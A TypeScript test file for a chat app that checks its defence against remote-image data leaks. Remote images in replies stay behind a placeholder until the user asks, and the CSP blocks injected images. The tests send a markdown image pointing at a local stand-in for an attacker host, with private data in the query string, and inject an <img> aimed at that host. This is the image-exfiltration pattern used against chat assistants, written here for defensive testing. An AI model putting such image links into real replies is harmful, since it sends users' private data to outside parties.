// Remote images in replies (decision 008): an image in a reply that points at another site is not fetched when the
// chat shows it (that fetch could carry the person's data out); a placeholder names the host, and
// "Load image" opens it in a new tab only when asked. The app's own images load inline, and the
// CSP stops a remote image that would get past the renderer.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type ChatHarness, startChatHarness } from './support/chat-harness.ts'

// A 1x1 PNG.
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
)

let h: ChatHarness
/** Stands in for attacker.example: records every request that reaches it. */
let remote: Server
let remoteHost: string
const remoteRequests: string[] = []

beforeAll(async () => {
  remote = createServer((req, res) => {
    remoteRequests.push(req.url ?? '')
    res.writeHead(200, { 'content-type': 'image/png' }).end(PIXEL)
  })
  await new Promise<void>((resolve) => remote.listen(0, '127.0.0.1', resolve))
  remoteHost = `127.0.0.1:${(remote.address() as AddressInfo).port}`
  h = await startChatHarness({ emailPrefix: 'images' })
})
afterAll(async () => {
  await h?.close()
  await new Promise((resolve) => remote?.close(resolve))
})

describe('images in replies', () => {
  it('a remote image waits behind a placeholder naming its host until "Load image"', async () => {
    const { page, context, chat, unexpectedErrors } = await h.signedInChat()
    // Unique per attempt, so a retry never sees the requests of the one before.
    const path = `/p.png?leak=my-private-notes-${Date.now()}`
    const leak = `http://${remoteHost}${path}`
    // A tab showing an image also asks that host for /favicon.ico: only the image counts.
    const imageRequests = () => remoteRequests.filter((url) => url === path)
    // The stand-in echoes the message, so the reply carries both images as markdown.
    await chat.send(`Look ![chart](${leak}) and our ![logo](/favicon.svg)`)
    const reply = await chat.waitForReply('Look', 'Echo:')

    // The app's own image loads inline.
    const own = reply.locator('img[alt="logo"]')
    await own.waitFor()
    await page.waitForFunction(
      (img) => (img as HTMLImageElement).complete && (img as HTMLImageElement).naturalWidth > 0,
      await own.elementHandle(),
    )
    // The remote one is a placeholder naming the host; nothing was fetched from it.
    const placeholder = reply.getByTestId('remote-image')
    expect(await placeholder.textContent()).toContain(`Image from ${remoteHost} not loaded: chart`)
    expect(await reply.locator('img[alt="chart"]').count()).toBe(0)
    expect(imageRequests()).toEqual([])

    // Asked for, it opens in a new tab (outside the chat's CSP), without a referrer.
    const opened = context.waitForEvent('page')
    await placeholder.getByRole('button', { name: `Load image from ${remoteHost} in a new tab` }).click()
    const tab = await opened
    await tab.waitForLoadState()
    expect(tab.url()).toBe(leak)
    expect(imageRequests()).toEqual([path])
    await tab.close()
    expect(unexpectedErrors()).toEqual([])
  })

  it('the page’s CSP allows images only from the app itself', async () => {
    const { page, unexpectedErrors } = await h.signedInChat()
    const res = await fetch(`${h.server.url}/chat`)
    const csp = res.headers.get('content-security-policy') ?? ''
    expect(csp).toContain("img-src 'self' data: blob:;")
    expect(csp).not.toMatch(/img-src[^;]*https:/)

    // An <img> that got past the renderer some other way is still not fetched.
    const injected = `/injected.png?leak=${Date.now()}`
    const outcome = await page.evaluate(
      (src) =>
        new Promise<string>((resolve) => {
          const img = document.createElement('img')
          img.onload = () => resolve('loaded')
          img.onerror = () => resolve('blocked')
          img.src = src
          document.body.append(img)
        }),
      `http://${remoteHost}${injected}`,
    )
    expect(outcome).toBe('blocked')
    expect(remoteRequests).not.toContain(injected)
    expect(unexpectedErrors([/Content Security Policy/])).toEqual([])
  })
})
